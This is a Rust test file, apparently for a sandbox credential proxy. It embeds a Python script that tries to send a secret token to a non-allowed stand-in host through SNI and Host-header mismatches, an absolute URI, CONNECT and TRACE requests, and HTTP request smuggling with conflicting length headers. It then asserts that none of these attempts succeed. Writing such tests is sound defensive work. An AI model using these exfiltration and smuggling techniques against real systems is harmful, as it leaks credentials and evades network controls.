//! What programs try to get a secret to another host.

use anyhow::{Result, ensure};
use serde_json::json;

use super::{LISTED, SECRET, Setting, limited, site::Seen};

/// Connects, asks for a name in TLS, and sends requests one after the other, whatever is answered.
const ASTRAY: &str = r#"
import os, socket, ssl, sys
token = os.environb[b"TOKEN"]
def attempt(host, name, *requests, proxy=None):
    try:
        plain = socket.create_connection(proxy or (host, 443), 20)
        if proxy:
            plain.sendall(f"CONNECT {host}:443 HTTP/1.1\r\n\r\n".encode())
            while b"\r\n\r\n" not in plain.recv(4096): pass
        context = ssl.create_default_context()
        context.check_hostname = False
        tls = context.wrap_socket(plain, server_hostname=name)
        for request in requests:
            tls.sendall(request.replace("\n", "\r\n").encode().replace(b"TOKEN", token))
            print(tls.recv(4096).split(b"\r\n")[0].decode())
        tls.close()
    except OSError as error:
        print("no", type(error).__name__)
good = "GET /good HTTP/1.1\nHost: api.example.test\nAuthorization: TOKEN\n\n"
bad = good.replace("api.", "other.")
git = ("git.selfsame.internal", 3128)
attempt("api.example.test", "api.example.test", good)
attempt("api.example.test", "api.example.test", good, proxy=git)
attempt("api.example.test", "api.example.test", good, good, bad, good)
attempt("api.example.test", "other.example.test", good)
attempt("api.example.test", "other.example.test", bad)
attempt("other.example.test", "api.example.test", good)
attempt("other.example.test", "other.example.test", good, bad, proxy=git)
attempt("api.example.test", "api.example.test", good.replace("/good", "https://other.example.test/"))
attempt("api.example.test", "api.example.test", good.replace("\nAuth", "\nHost: other.example.test\nAuth"))
attempt("api.example.test", "api.example.test", "CONNECT other.example.test:443 HTTP/1.1\nHost: other.example.test:443\nAuthorization: TOKEN\n\n", bad)
attempt("api.example.test", "api.example.test", "TRACE / HTTP/1.1\nHost: api.example.test\nAuthorization: TOKEN\n\n")
smuggled = "GET /smuggled HTTP/1.1\nHost: other.example.test\nAuthorization: TOKEN\n\n"
for lengths in "Content-Length: 4\nTransfer-Encoding: chunked", "Transfer-Encoding: chunked\nContent-Length: 4", f"Content-Length: 0\nContent-Length: {len(smuggled) + 6}", "Transfer-Encoding: identity, chunked\nContent-Length: 3", "Transfer-Encoding:\x0bchunked\nContent-Length: 3":
    attempt("api.example.test", "api.example.test", f"POST / HTTP/1.1\nHost: api.example.test\n{lengths}\n\n0\n\n{smuggled}")
"#;

#[tokio::test]
async fn a_secret_does_not_go_astray() -> Result<()> {
    let setting = Setting::new().await?;
    let vault = setting.vault().await?;
    setting.credential(&vault, json!({})).await?;
    for networking in [
        json!({"type": "unrestricted"}),
        limited(&["api.example.test", "other.example.test"]),
        limited(&["api.example.test"]),
    ] {
        let session = setting.session(&[&vault], networking).await?;
        let program =
            format!("cat > /tmp/astray.py <<'PROGRAM'\n{ASTRAY}\nPROGRAM\npython3 /tmp/astray.py");
        let (said, _) = setting.bash(&session, &program).await?;
        let (listed, other) = (setting.site.take_seen(), setting.other.take_seen());
        let context = || format!("{said}\n{listed:#?}\n{other:#?}\n{}", setting.server.log());
        let with_secret = |seen: &&Seen| format!("{seen:?}").contains(SECRET);
        // The control: what is right gets through, and more than once.
        let good = listed.iter().filter(with_secret).count();
        ensure!(good >= 4, context());
        for seen in listed.iter().filter(with_secret) {
            ensure!(
                seen.header("host") == Some(LISTED) && seen.target == "/good",
                context()
            );
            ensure!(seen.name.as_deref() == Some(LISTED), context());
        }
        ensure!(other.iter().filter(with_secret).count() == 0, context());
        ensure!(
            listed.iter().all(|seen| seen.target != "/smuggled"),
            context()
        );
    }
    Ok(())
}
